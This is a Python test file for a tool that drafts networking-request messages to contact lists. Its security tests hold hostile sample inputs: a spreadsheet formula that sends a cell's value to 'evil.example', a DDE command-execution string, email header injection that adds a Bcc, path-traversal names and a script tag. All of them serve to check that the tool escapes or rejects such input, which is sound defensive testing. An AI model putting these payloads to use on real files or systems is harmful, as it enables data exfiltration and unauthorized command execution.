"""A campaign: one checked request per contact, files, review sheet worst first, resume, repeat window."""

from __future__ import annotations

import csv
import email
import email.policy
from datetime import date
from pathlib import Path
from typing import Any

import pytest

import askcraft
from askcraft import campaign
from askcraft.campaign import draft_many, run_campaign
from askcraft.testing import FakeGrammarChecker, use_grammar_checker

EXAMPLES = Path(__file__).resolve().parent.parent / "examples" / "campaign"
TODAY = date(2026, 11, 12)
ASK: dict[str, Any] = {
    "kind": "request",
    "goal": "job-leads",
    "industry": "banking",
    "count": 2,
    "channel": "email",
    "recipient": {"relationship": "acquaintance"},
    "sender": {"name": "Alex Kim", "email": "alex@example.com", "reason": "I want to work in finance"},
}


@pytest.fixture(autouse=True)
def fake_grammar() -> Any:
    """Grammar is a fake that flags "people" (so findings exist) for every test here."""
    fake = FakeGrammarChecker({"people": "folks"}, severity="warning")
    with use_grammar_checker(fake):
        yield fake


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def run(tmp_path: Path, contacts: Path | str, **kwargs: Any) -> campaign.CampaignResult:
    kwargs.setdefault("out", tmp_path / "drafts")
    kwargs.setdefault("ledger", tmp_path / "ledger.sqlite3")
    kwargs.setdefault("today", TODAY)
    return run_campaign(contacts, kwargs.pop("intent", ASK), **kwargs)


def test_draft_many_gives_what_draft_gives(fake_grammar: FakeGrammarChecker) -> None:
    """The batch path's drafts and findings equal askcraft.draft() called once per intent."""
    people = ["Sam Lee", "Mia Chen", "Dr. Ama Mensah", "Jordan Reyes", "Li Wei"]
    channels = ["email", "text", "linkedin-message", "linkedin-connection-note", "email"]
    intents = [
        {**ASK, "channel": ch, "recipient": {"name": n, "relationship": r}}
        for n, ch, r in zip(
            people * 8, channels * 8, ["friend", "mentor", "alumni", "family"] * 10, strict=False
        )
    ]
    alone = [askcraft.draft(i, today=TODAY) for i in intents]
    batched = [o.draft for o in draft_many(intents, today=TODAY, batch=7)]
    assert batched == alone
    assert any(f.rule == "spelling.FAKE" for d in alone for f in d.findings)
    reminder = batched[0].reminder(sent_on=date(2026, 11, 2))  # type: ignore[union-attr]
    assert any(f.rule == "spelling.FAKE" for f in reminder.findings)  # follow-ups keep grammar on


def test_draft_many_yields_errors_in_place() -> None:
    """An intent that cannot be drafted comes back with its error; the others are drafted."""
    bad = {**ASK, "recipient": {"name": "Sam", "relationship": "friend"}, "count": 99}
    good = {**ASK, "recipient": {"name": "Mia", "relationship": "friend"}}
    outcomes = list(draft_many([good, bad, good], grammar=False))
    assert [o.draft is not None for o in outcomes] == [True, False, True]
    assert isinstance(outcomes[1].error, askcraft.IntentError)


def test_a_campaign_writes_a_message_per_contact_and_a_review(tmp_path: Path) -> None:
    """LinkedIn export: .eml for those with an email, LinkedIn messages for the rest, a review, the ledger."""
    result = run(tmp_path, EXAMPLES / "Connections.csv")
    out = tmp_path / "drafts"
    assert result.name == "drafts"
    assert sorted(p.name for p in out.iterdir()) == [
        "mateo-garcia.txt",
        "olivia-chen.eml",
        "priya-patel.txt",
        "review.csv",
        "review.md",
        "sam-lee.eml",
        "tomasz-nowak.txt",
    ]
    assert (
        result.summary
        == "Asked 5 people for two names each in banking (10 in all, no more than two from anyone)."
    )
    priya = next(e for e in result.entries if e.name == "Priya Patel")
    assert priya.channel == "linkedin-message"
    assert "LinkedIn message" in priya.notes[0]
    message = email.message_from_bytes((out / "sam-lee.eml").read_bytes(), policy=email.policy.default)
    assert message["To"] == "Sam Lee <sam.lee@example.com>"
    assert "Hi Sam" in message.get_content()
    with campaign.Ledger(tmp_path / "ledger.sqlite3") as ledger:
        asks = ledger.asks(campaign="drafts")
        assert len(asks) == 5
        assert {a.message("request").file for a in asks} == {  # type: ignore[union-attr]
            "sam-lee.eml", "priya-patel.txt", "mateo-garcia.txt", "olivia-chen.eml", "tomasz-nowak.txt",
        }  # fmt: skip


def test_pronouns_in_a_linkedin_name_are_not_greeted(tmp_path: Path) -> None:
    """'Kwame Mensah (he/him)' is greeted Kwame, and the review says what was taken off the name."""
    contacts = write(
        tmp_path,
        "Connections.csv",
        "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
        "Kwame,Mensah (he/him),https://www.linkedin.com/in/kwame,kwame@example.com,Citi,Analyst,1 Jan 2024\n",
    )
    result = run(tmp_path, contacts)
    (entry,) = result.entries
    assert entry.name == "Kwame Mensah"
    assert entry.body.splitlines()[0] in {"Hi Kwame,", "Hello Kwame,", "Dear Kwame,", "Hey Kwame,"}
    assert "he/him" not in entry.body
    assert any("pronouns (he/him)" in note for note in entry.notes)
    assert "pronouns (he/him)" in (tmp_path / "drafts" / "review.md").read_text(encoding="utf-8")
    message = email.message_from_bytes(
        (tmp_path / "drafts" / "kwame-mensah.eml").read_bytes(), policy=email.policy.default
    )
    assert message["To"] == "Kwame Mensah <kwame@example.com>"


def test_the_review_lists_worst_first(tmp_path: Path) -> None:
    """Drafts with more severe findings come first in review.md and review.csv."""
    contacts = write(
        tmp_path,
        "c.csv",
        "name,email,count,relationship\n"
        "Asha Rao,asha@example.com,2,friend\n"
        "Sam Lee,sam@example.com,9,colleague\n",
    )
    result = run(tmp_path, contacts)
    rows = list(csv.DictReader((tmp_path / "drafts" / "review.csv").read_text("utf-8-sig").splitlines()))
    assert [r["name"] for r in rows] == ["Sam Lee", "Asha Rao"]
    assert int(rows[0]["warnings"]) > int(rows[1]["warnings"])
    assert "ask-size" in rows[0]["findings"]
    review = (tmp_path / "drafts" / "review.md").read_text()
    assert review.index("Sam Lee") < review.index("Asha Rao")
    assert any("9 names is a lot" in w for w in result.warnings)


def test_rows_not_drafted_go_to_errors_csv_and_the_rest_go_on(tmp_path: Path) -> None:
    """Bad rows are listed with their row number and why; every good row is still drafted."""
    contacts = write(
        tmp_path,
        "c.csv",
        "name,email,relationship,channel\n"
        "Sam Lee,sam@example.com,friend,email\n"
        "Asha Rao,asha@example.com,cousin,email\n"
        ",nobody@example.com,friend,email\n"
        "Li Wei,not-an-email,friend,email\n"
        "Sam L,SAM@example.com,friend,email\n",
    )
    result = run(tmp_path, contacts)
    assert [e.name for e in result.entries] == ["Sam Lee"]
    rows = list(csv.reader((tmp_path / "drafts" / "errors.csv").read_text("utf-8-sig").splitlines()))
    assert rows[0] == ["row", "name", "problem"]
    assert [r[0] for r in rows[1:]] == ["3", "4", "5", "6"]
    assert "recipient.relationship" in rows[1][2]
    assert "no name" in rows[2][2]
    assert "recipient.email" in rows[3][2]
    assert "same email" in rows[4][2]


def test_formula_cells_never_reach_the_review_csv_unescaped(tmp_path: Path) -> None:
    """A contact file full of formulas: every review.csv cell that would run is prefixed with a quote."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    contacts = write(
        tmp_path,
        "c.csv",
        "name,email,hook,relationship\n"
        f'"{evil.replace(chr(34), chr(34) * 2)}",a@example.com,"@SUM(1+1)",friend\n'
        "Sam Lee,sam@example.com,\"+cmd|' /C calc'!A0\",friend\n"
        'Li Wei,li@example.com,"-2+3",friend\n',
    )
    result = run(tmp_path, contacts)
    cells = [
        c
        for row in csv.reader((tmp_path / "drafts" / "review.csv").read_text("utf-8-sig").splitlines())
        for c in row
    ]
    errors = [
        c
        for row in csv.reader((tmp_path / "drafts" / "errors.csv").read_text("utf-8-sig").splitlines())
        for c in row
    ]
    dangerous = [c for c in cells + errors if c.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in errors)  # a formula is no name: listed, not drafted
    assert len(result.entries) == 2
    review = (tmp_path / "drafts" / "review.md").read_text()
    assert "[" not in review.split("## 1.")[0].replace("\\[", "")  # no live Markdown link from a name


def test_header_injection_cannot_reach_an_eml_header(tmp_path: Path) -> None:
    """Names with CR LF, encoded words or controls never become a draft; every header is the expected set."""
    contacts = write(
        tmp_path,
        "c.csv",
        "name,email,relationship\n"
        '"Sam\r\nBcc: victim@example.com",sam@example.com,friend\n'
        '"=?utf-8?q?Li=0D=0ABcc=3A_v=40example=2Ecom?=",li@example.com,friend\n'
        '"Mia\x0bChen",mia@example.com,friend\n'
        "Asha Rao,asha@example.com,friend\n",
    )
    result = run(tmp_path, contacts)
    assert [e.name for e in result.entries] == ["Asha Rao"]
    assert len(result.problems) == 3
    for eml in (tmp_path / "drafts").glob("*.eml"):
        message = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
        assert "Bcc" not in message
        assert sorted(message.keys()) == sorted(
            ["From", "To", "Subject", "Date", "Message-ID", "X-Askcraft-Pack", "MIME-Version",
             "Content-Type", "Content-Transfer-Encoding"]
        )  # fmt: skip


@pytest.mark.parametrize("name", ["../../etc/passwd", "..", "a/b\\c", "CON", "nul", "....", "李小龍", "🙂"])
def test_a_name_never_makes_a_path_outside_out(tmp_path: Path, name: str) -> None:
    """File names are slugs of names: no separator, no '..', no device name; each stays in --out."""
    contacts = write(tmp_path, "c.csv", f'name,email,relationship\n"{name}",x@example.com,friend\n')
    result = run(tmp_path, contacts, ledger=None, record=False)
    (entry,) = result.entries
    assert "/" not in entry.file
    assert "\\" not in entry.file
    assert ".." not in entry.file
    assert (tmp_path / "drafts" / entry.file).is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.csv", "drafts"]


def test_same_names_get_distinct_files(tmp_path: Path) -> None:
    """Two Sam Lees (different emails) get sam-lee.eml and sam-lee-2.eml."""
    contacts = write(
        tmp_path,
        "c.csv",
        "name,email,relationship\nSam Lee,a@example.com,friend\nSam Lee,b@example.com,friend\n",
    )
    assert [e.file for e in run(tmp_path, contacts).entries] == ["sam-lee.eml", "sam-lee-2.eml"]


def test_running_again_drafts_nobody_twice(tmp_path: Path, fake_grammar: FakeGrammarChecker) -> None:
    """A second run keeps the first run's drafts, drafts only new contacts, and records each ask once."""
    first = run(tmp_path, EXAMPLES / "contacts.csv")
    calls = len(fake_grammar.calls)
    again = run(tmp_path, EXAMPLES / "contacts.csv")
    assert len(fake_grammar.calls) == calls
    assert (len(again.drafted), len(again.earlier)) == (0, len(first.entries))
    assert [e.file for e in again.entries] == [e.file for e in first.entries]
    with campaign.Ledger(tmp_path / "ledger.sqlite3") as ledger:
        assert len(ledger.asks()) == len(first.entries)


def test_a_changed_ask_is_refused_unless_redrafted(tmp_path: Path) -> None:
    """The same campaign with another ask needs --redraft, which redrafts only what was not sent."""
    run(tmp_path, EXAMPLES / "contacts.csv")
    changed = {**ASK, "count": 1}
    with pytest.raises(askcraft.IntentError, match="drafted from a different ask"):
        run(tmp_path, EXAMPLES / "contacts.csv", intent=changed)
    with campaign.Ledger(tmp_path / "ledger.sqlite3") as ledger:
        campaign.mark(ledger, "sent", "sam.lee@example.com", on=TODAY)
    redone = run(tmp_path, EXAMPLES / "contacts.csv", intent=changed, redraft=True)
    assert [e.name for e in redone.earlier] == ["Sam Lee"]
    assert len(redone.drafted) == 4
    assert "someone in banking" in (tmp_path / "drafts" / "jordan-reyes.txt").read_text()
    assert not list((tmp_path / "drafts").glob("*-2.*"))  # redrafts keep their file names


def test_nobody_is_asked_twice_within_the_window(tmp_path: Path) -> None:
    """A contact asked in another campaign within 30 days is skipped, unless again=True."""
    run(tmp_path, EXAMPLES / "contacts.csv", out=tmp_path / "first")
    second = run(tmp_path, EXAMPLES / "contacts.yaml", out=tmp_path / "second")
    assert [e.name for e in second.entries] == ["Dr. Ama Mensah"]
    skipped = [p for p in second.problems if "asked on" in p.message]
    assert [p.name for p in skipped] == ["Sam Lee", "Aunt Rosa"]  # Rosa: same name, no email either time
    assert "--again" in skipped[0].message
    later = run(tmp_path, EXAMPLES / "contacts.yaml", out=tmp_path / "third", today=date(2026, 12, 30))
    assert len(later.entries) == 3
    forced = run(tmp_path, EXAMPLES / "contacts.yaml", out=tmp_path / "fourth", again=True)
    assert len(forced.entries) == 3


def test_an_ask_no_contact_can_fix_is_refused_once(tmp_path: Path) -> None:
    """A missing industry is one error naming the ask file, not one per row; a column that sets it is fine."""
    broken = write(
        tmp_path, "ask.yaml", "goal: job-leads\ncount: 2\nsender: {name: Alex, reason: I want a change}\n"
    )
    with pytest.raises(
        askcraft.IntentError, match=r"(?s)ask.yaml: the ask has 1 problem.*industry or role or company"
    ):
        run(tmp_path, EXAMPLES / "contacts.csv", intent=broken)
    contacts = write(tmp_path, "c.csv", "name,relationship,industry\nSam Lee,friend,retail\n")
    assert len(run(tmp_path, contacts, intent=broken).entries) == 1
    reminder = write(tmp_path, "r.yaml", "kind: reminder\n")
    with pytest.raises(askcraft.IntentError, match="a campaign drafts requests"):
        run(tmp_path, contacts, intent=reminder)


def test_pack_fields_come_from_columns_a_pack_declares(tmp_path: Path) -> None:
    """Unknown columns are kept on the contact; none reaches the intent unless a pack declares it."""
    contacts = write(tmp_path, "c.csv", "name,relationship,shoe size\nSam Lee,friend,44\n")
    result = run(tmp_path, contacts)
    assert result.contacts.contacts[0].extra == {"shoe_size": "44"}
    assert len(result.entries) == 1


def test_no_ledger_still_writes_everything(tmp_path: Path) -> None:
    """record=False: drafts and review, no ledger file."""
    result = run(tmp_path, EXAMPLES / "contacts.vcf", ledger=tmp_path / "never.sqlite3", record=False)
    assert len(result.entries) == 3
    assert not (tmp_path / "never.sqlite3").exists()


def test_html_review_escapes_everything(tmp_path: Path) -> None:
    """review.html shows a hostile name as text, never as markup."""
    contacts = write(
        tmp_path, "c.csv", 'name,email,relationship\n"Sam <script>x</script>",s@example.com,friend\n'
    )
    run(tmp_path, contacts, html=True)
    page = (tmp_path / "drafts" / "review.html").read_text()
    assert "<script>" not in page
    assert "&lt;script&gt;" in page


def test_a_symlink_in_out_is_replaced_not_followed(tmp_path: Path) -> None:
    """A link planted where a draft goes (drafts/sam-lee.eml -> outside) is replaced; its target untouched."""
    outside = tmp_path / "precious.txt"
    outside.write_text("keep me")
    (tmp_path / "drafts").mkdir()
    (tmp_path / "drafts" / "sam-lee.eml").symlink_to(outside)
    contacts = write(tmp_path, "c.csv", "name,email,relationship\nSam Lee,sam@example.com,friend\n")
    run(tmp_path, contacts)
    assert outside.read_text() == "keep me"
    assert not (tmp_path / "drafts" / "sam-lee.eml").is_symlink()
